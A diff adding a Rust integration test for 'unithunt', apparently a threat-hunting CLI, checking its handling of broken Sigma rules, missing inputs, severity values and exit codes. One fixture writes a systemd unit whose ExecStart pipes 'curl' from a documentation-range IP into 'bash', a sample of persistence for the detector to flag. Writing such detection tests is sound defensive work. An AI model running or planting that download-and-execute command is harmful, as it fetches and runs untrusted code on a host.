@@ -532,3 +532,132 @@ fn eql_mapping_types_fields_as_elasticsearch_does() {
     );
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+/// Issue 19, items 3, 8, 9: a bad Sigma rule among good ones is reported with file:line:col, the
+/// others run, and the exit status is 2 (`--strict` stops first); a missing input is an error, not
+/// "No alerts"; severities are a closed, case-insensitive set; `hunt --fail-on` exits 1.
+#[test]
+fn bad_rules_missing_inputs_and_severities_are_said_and_exit_as_documented() {
+    let dir = std::env::temp_dir().join(format!("unithunt-ux-{}", std::process::id()));
+    let rules = dir.join("rules");
+    std::fs::create_dir_all(&rules).unwrap();
+    std::fs::copy(
+        "rules/sigma/persistence_systemd_service_seed.yml",
+        rules.join("seed.yml"),
+    )
+    .or_else(|_| {
+        std::fs::copy(
+            concat!(
+                env!("CARGO_MANIFEST_DIR"),
+                "/../../rules/sigma/persistence_systemd_service_seed.yml"
+            ),
+            rules.join("seed.yml"),
+        )
+    })
+    .unwrap();
+    std::fs::write(
+        rules.join("broken.yml"),
+        "title: broken\nlogsource: {product: linux}\ndetection:\n  s: {Image: x\n  condition: s\n",
+    )
+    .unwrap();
+    let r = rules.to_str().unwrap();
+    let o = unithunt(
+        &[
+            "scan",
+            "--no-builtin",
+            "--rules",
+            r,
+            "-o",
+            "ndjson",
+            "examples/atomic-tests.ecs.ndjson",
+        ],
+        "",
+    );
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(2), "{err}");
+    assert!(err.contains("broken.yml:5:12: YAML: "), "{err}");
+    assert!(lines(&o).len() >= 4, "the good rule ran: {err}");
+    let o = unithunt(
+        &[
+            "scan",
+            "--strict",
+            "--no-builtin",
+            "--rules",
+            r,
+            "-o",
+            "ndjson",
+            "examples/atomic-tests.ecs.ndjson",
+        ],
+        "",
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(o.stdout.is_empty(), "--strict runs nothing");
+    // A missing input: its error, exit 2, and no table saying there were no alerts.
+    let o = unithunt(&["scan", "/nonexistent/unithunt"], "");
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        o.stdout.is_empty(),
+        "{}",
+        String::from_utf8_lossy(&o.stdout)
+    );
+    assert!(String::from_utf8_lossy(&o.stderr).contains("/nonexistent/unithunt: No such file"));
+    let o = unithunt(&["watch", "/nonexistent/unithunt", "--exit-at-eof"], "");
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr).contains("/nonexistent/unithunt: No such file"));
+    // Severities: a closed set, any case.
+    let o = unithunt(&["hunt", "--min-severity", "bogus"], "");
+    assert_eq!(o.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&o.stderr)
+        .contains("possible values: info, low, medium, high, critical"));
+    // `hunt --fail-on`: a root holding a unit that runs a script from /tmp (high or above).
+    let root = dir.join("root");
+    std::fs::create_dir_all(root.join("etc/systemd/system")).unwrap();
+    std::fs::write(
+        root.join("etc/systemd/system/updater.service"),
+        "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/x | bash'\n[Install]\nWantedBy=multi-user.target\n",
+    )
+    .unwrap();
+    let rt = root.to_str().unwrap();
+    let o = unithunt(
+        &[
+            "hunt",
+            "--root",
+            rt,
+            "--min-severity",
+            "HIGH",
+            "-o",
+            "ndjson",
+        ],
+        "",
+    );
+    assert_eq!(o.status.code(), Some(0), "without --fail-on: 0");
+    assert!(
+        !o.stdout.is_empty(),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let o = unithunt(
+        &["hunt", "--root", rt, "--fail-on", "high", "-o", "ndjson"],
+        "",
+    );
+    assert_eq!(
+        o.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&o.stderr)
+    );
+    let empty = dir.join("empty");
+    std::fs::create_dir_all(&empty).unwrap();
+    let o = unithunt(
+        &[
+            "hunt",
+            "--root",
+            empty.to_str().unwrap(),
+            "--fail-on",
+            "low",
+        ],
+        "",
+    );
+    assert_eq!(o.status.code(), Some(0));
+    let _ = std::fs::remove_dir_all(&dir);
+}
